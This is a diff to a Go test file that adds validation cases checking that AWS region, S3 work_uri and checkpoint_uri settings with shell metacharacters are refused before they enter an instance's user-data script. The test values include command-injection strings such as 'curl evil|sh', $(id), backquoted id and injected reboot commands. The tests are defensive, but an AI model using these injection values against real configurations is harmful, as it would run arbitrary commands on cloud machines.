@@ -67,6 +67,18 @@ func launchErrorCases(replace func(old, new string) string) []configErrorCase {
 		{"agent path with a dollar", aws("    agent_path: /opt/$HOME/lathed\n"), p + "agent_path", "/opt/$HOME/lathed", "user-data script"},
 		{"agent path with a backquote", aws("    agent_path: /opt/`id`/lathed\n"), p + "agent_path", "/opt/`id`/lathed", "user-data script"},
 		{"unknown launch key", aws("    image: ami-0a1b\n"), p + "image", "", "unknown field"},
+		// Values that go into the instance's user-data script: only their
+		// documented form (a shell command in one is refused, not quoted away).
+		{"region with a shell command", replace("    region: eu-central-1\n", "    region: \"eu-central-1; curl evil|sh\"\n"), p + "region", "eu-central-1; curl evil|sh", "must be an AWS region name like eu-central-1"},
+		{"region with a command substitution", replace("    region: eu-central-1\n", "    region: eu-central-$(id)\n"), p + "region", "eu-central-$(id)", "must be an AWS region name"},
+		{"region upper case", replace("    region: eu-central-1\n", "    region: EU-CENTRAL-1\n"), p + "region", "EU-CENTRAL-1", "must be an AWS region name"},
+		{"region without a number", replace("    region: eu-central-1\n", "    region: eu-central\n"), p + "region", "eu-central", "must be an AWS region name"},
+		{"region with a newline", replace("    region: eu-central-1\n", "    region: \"eu-central-1\\nreboot\"\n"), p + "region", "eu-central-1\nreboot", "must be an AWS region name"},
+		{"work uri with a quote", aws("    work_uri: \"s3://lathe-eu-data/w'; reboot; '\"\n"), p + "work_uri", "s3://lathe-eu-data/w'; reboot; '", "key may hold only A-Z, a-z, 0-9"},
+		{"work uri with a command substitution", aws("    work_uri: s3://lathe-eu-data/$(id)/w\n"), p + "work_uri", "s3://lathe-eu-data/$(id)/w", "key may hold only"},
+		{"work uri with a space", aws("    work_uri: s3://lathe-eu-data/my work\n"), p + "work_uri", "s3://lathe-eu-data/my work", "key may hold only"},
+		{"work uri with a backquote", aws("    work_uri: s3://lathe-eu-data/`id`\n"), p + "work_uri", "s3://lathe-eu-data/`id`", "key may hold only"},
+		{"work uri bucket not an S3 name", aws("    work_uri: s3://Lathe_EU/w\n"), p + "work_uri", "s3://Lathe_EU/w", "is not an S3 bucket name"},
 	}
 	// Each launch setting on a local backend.
 	for _, kv := range [][3]string{
@@ -150,6 +162,10 @@ func TestLaunchDefaults(t *testing.T) {
 		{"checkpoints in another site: no default", strings.NewReplacer("checkpoint_uri: s3://lathe-eu-ckpt/", "checkpoint_uri: s3://lathe-us-data/ckpt").Replace(briefConfig),
 			"", DefaultMaxInstances, DefaultAgentPath, false},
 		{"file:// checkpoints: no default", strings.NewReplacer("checkpoint_uri: s3://lathe-eu-ckpt/", "checkpoint_uri: file:///ckpt").Replace(briefConfig),
+			"", DefaultMaxInstances, DefaultAgentPath, false},
+		// work_uri goes into the user-data script: a checkpoint_uri whose key
+		// is not of its safe form is no default for it.
+		{"checkpoints with a shell command in the key: no default", strings.NewReplacer("checkpoint_uri: s3://lathe-eu-ckpt/", "checkpoint_uri: \"s3://lathe-eu-ckpt/$(reboot)'\"").Replace(briefConfig),
 			"", DefaultMaxInstances, DefaultAgentPath, false},
 		{"only the required keys", strings.Replace(briefConfig, "    spot: false\n", "    ami: ami-1\n    subnets: [subnet-1]\n    instance_profile: p\n", 1),
 			"s3://lathe-eu-ckpt/", DefaultMaxInstances, DefaultAgentPath, true},
